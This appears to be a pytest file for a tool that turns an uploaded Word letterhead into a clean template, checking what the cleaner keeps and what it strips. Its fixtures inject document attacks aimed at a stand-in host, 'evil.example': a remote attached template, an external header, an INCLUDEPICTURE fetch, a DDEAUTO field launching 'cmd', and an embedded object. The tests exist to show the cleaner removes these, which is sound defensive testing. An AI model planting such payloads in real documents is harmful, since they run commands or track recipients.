"""A stranger's Word file made into a template: what stays of it, and what is left behind or refused."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import docx
import pytest
from docx.document import Document
from docx.oxml.ns import qn
from docx.shared import Cm, Pt, RGBColor
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.documents import paper
from bot.documents.agenda_writer import AgendaPaper, AgendaRow, write_agenda
from bot.documents.reader import clean_template
from bot.documents.template_cleaning import LARGEST, cleaned
from bot.documents.timeline_picture import Row, Timeline, draw
from bot.domain.errors import DocumentProblem
from tests.documents.accessible import faults
from tests.documents.building import p, packed, saved, word

MADE = datetime(2024, 9, 2, 9, tzinfo=UTC)
DAY = MADE.date()
LOGO = draw(
    Timeline(
        title="Quay",
        rows=(Row(label="x", first=DAY, last=DAY, when="today"),),
        first=DAY,
        last=DAY,
        today=DAY,
    )
)
AGENDA = AgendaPaper(
    network="South Quay QA Leads",
    when="Monday 16 September 2024, 10:00 to 12:00",
    rows=(
        AgendaRow(number="1", time="10:00", title="Introductions", lines=("Who is new", "  And who leaves")),
    ),
    made=MADE,
)


def letterhead() -> Document:
    """With a logo and words in its header, page, font and heading of its own, and text that nobody wants again."""
    document = docx.Document()
    section = document.sections[0]
    section.page_width, section.page_height, section.left_margin = Cm(18), Cm(25), Cm(3)
    header = section.header.paragraphs[0]
    header.add_run("South Quay Partnership")
    header.add_run().add_picture(io.BytesIO(LOGO), width=Cm(2))
    section.footer.paragraphs[0].text = "Not for publication"
    document.styles["Heading 1"].font.size, document.styles["Normal"].font.name = Pt(17), "Georgia"
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x33, 0x00, 0x66)
    document.add_heading("Last year's agenda")
    document.add_paragraph("Secret talk of last year")
    return document


def written(template: bytes) -> Document:
    return docx.Document(io.BytesIO(write_agenda(replace(AGENDA, template=template))))


def everything(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return "\n".join(f"{name}\n{file.read(name).decode('latin-1')}" for name in file.namelist())


async def test_papers_have_its_page_header_footer_and_styles_and_none_of_its_text() -> None:
    template = await clean_template(saved(letterhead()), name="letterhead.docx")
    document = written(template)
    section = document.sections[0]

    assert (round(section.page_width.cm, 2), round(section.left_margin.cm, 2)) == (18, 3)
    assert section.header.paragraphs[0].text == "South Quay Partnership"
    assert section.footer.paragraphs[0].text == "Not for publication"
    assert (document.styles["Heading 1"].font.size, document.styles["Normal"].font.name) == (
        Pt(17),
        "Georgia",
    )
    assert [each.text for each in document.paragraphs][:2] == [AGENDA.network, AGENDA.when]
    assert "Secret" not in everything(template)
    assert document.core_properties.title == f"{AGENDA.network}: agenda, {AGENDA.when}"


def test_the_logo_in_its_header_is_kept_whole() -> None:
    document = written(cleaned(saved(letterhead())))

    pictures = [
        each.blob
        for each in document.sections[0].header.part.package.iter_parts()
        if "media" in each.partname
    ]
    assert LOGO in pictures


def test_a_header_that_an_earlier_section_brought_stands_on_the_page_too() -> None:
    document = letterhead()
    document.add_section()

    assert written(cleaned(saved(document))).sections[0].header.paragraphs[0].text == "South Quay Partnership"


def test_what_it_has_no_style_for_looks_as_ours() -> None:
    """Whoever never used a list or a table has no style for them in their file."""
    document = written(cleaned(word(p("Nothing but words"))))

    names = [each.style.name for cell in document.tables[0].columns[2].cells for each in cell.paragraphs]
    assert names[-2:] == ["List Bullet", "List Bullet 2"]
    assert document.tables[0].style.name == "Table Grid"
    numbers = [document.styles[name].element.pPr.numPr.numId.val for name in names[-2:]]
    assert numbers == [each.numId for each in document.part.numbering_part.element.num_lst], (
        "their bullets are there"
    )
    assert document.sections[0].footer.paragraphs[0].text.startswith("Page")


def test_such_a_paper_can_be_read_aloud_as_ours_can() -> None:
    """Its words are ours, and English, whatever language the network's file was set in."""
    document = paper.blank("Letterhead", author="South Quay", made=MADE)
    for language in document.styles.element.iter(qn("w:lang")):
        language.set(qn("w:val"), "de-DE")

    assert faults(write_agenda(replace(AGENDA, template=cleaned(saved(document))))) == []


LINKED = "http://evil.example/track"


def with_parts(**parts: str) -> bytes:
    """A letterhead with further parts, and further relations of its document to them."""
    file = io.BytesIO(saved(letterhead()))
    with zipfile.ZipFile(file) as whole:
        kept = {name: whole.read(name) for name in whole.namelist()}
    rels = kept["word/_rels/document.xml.rels"].decode()
    kept["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>", f"{parts.get('rels', '')}</Relationships>"
    ).encode()
    settings_ = kept["word/settings.xml"].decode()
    kept["word/settings.xml"] = settings_.replace(
        "</w:settings>", f"{parts.get('settings', '')}</w:settings>"
    ).encode()
    name = next(each for each in kept if each.startswith("word/header"))
    kept[name] = kept[name].decode().replace("</w:hdr>", f"{parts.get('header', '')}</w:hdr>").encode()
    return packed(kept.items())


_SORT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    "parts",
    [
        {"settings": '<w:attachedTemplate r:id="rIdX" xmlns:r="' + _SORT + '"/><w:mailMerge/>'},
        {
            "rels": f'<Relationship Id="x" Type="{_SORT}/attachedTemplate" Target="{LINKED}" TargetMode="External"/>'
        },
        {"rels": f'<Relationship Id="x" Type="{_SORT}/header" Target="{LINKED}" TargetMode="External"/>'},
        {"header": f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {LINKED}"/></w:p>'},
        {"header": f"<w:p><w:r><w:instrText>DDEAUTO cmd {LINKED}</w:instrText></w:r></w:p>"},
        {"header": "<w:p><w:r><w:object/></w:r></w:p>"},
    ],
    ids=[
        "attached template",
        "template elsewhere",
        "header elsewhere",
        "fetched picture",
        "started program",
        "object",
    ],
)
def test_what_fetches_or_runs_is_left_behind(parts: dict[str, str]) -> None:
    left = everything(cleaned(with_parts(**parts)))

    for word_ in (
        "evil",
        "attachedTemplate",
        "mailMerge",
        "DDEAUTO",
        "INCLUDEPICTURE",
        "w:object",
        "External",
    ):
        assert word_ not in left
    assert "South Quay Partnership" in left


def test_a_template_that_would_make_every_paper_large_is_refused() -> None:
    document = letterhead()
    noise = io.BytesIO(LOGO + bytes(LARGEST))  # A picture with much behind its end.
    document.sections[0].header.paragraphs[0].add_run().add_picture(noise, width=Cm(2))

    with pytest.raises(DocumentProblem) as refused:
        cleaned(saved(document))
    assert refused.value.reason == "too_large_template"


@given(data=st.binary(max_size=400), place=st.integers(min_value=0, max_value=20_000))
@settings(max_examples=40, deadline=None)
def test_a_damaged_file_is_refused_or_makes_papers(data: bytes, place: int) -> None:
    whole = saved(docx.Document())
    broken = whole[: place % len(whole)] + data + whole[place % len(whole) + len(data) :]
    try:
        template = cleaned(broken)
    except DocumentProblem:
        return
    assert written(template).tables
